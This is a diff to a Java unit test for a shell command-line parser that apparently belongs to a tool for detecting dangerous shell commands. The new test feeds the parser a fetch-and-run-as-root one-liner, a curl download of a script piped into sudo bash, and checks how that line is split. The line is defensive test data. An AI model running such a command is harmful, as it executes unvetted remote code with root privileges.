@@ -1,4 +1,4 @@
-package dev.contraband.detect.artifact;
+package dev.contraband.detect.shell;
 
 import org.junit.jupiter.api.Test;
 
@@ -23,5 +23,14 @@ class CommandLineTest {
     void splitShell_quotesCommentsAndContinuations() {
         assertThat(CommandLine.splitShell("echo 'a; b' \\\n && run \"x y\" # tail ; ignored"))
                 .containsExactly(List.of("echo", "a; b"), List.of("run", "x y"));
+    }
+
+    @Test
+    void parse_pipesAndLists_keepTheirOperators() {
+        List<CommandLine.Command> c = CommandLine.parse("curl -fsSL http://x/i.sh | sudo bash && echo ok || true");
+        assertThat(c).extracting(CommandLine.Command::operator).containsExactly("|", "&&", "||", "");
+        assertThat(c.get(1).program()).isEqualTo("bash");
+        assertThat(c.get(0).arguments()).containsExactly("-fsSL", "http://x/i.sh");
+        assertThat(c.get(0).pipesIntoNext()).isTrue();
     }
 }
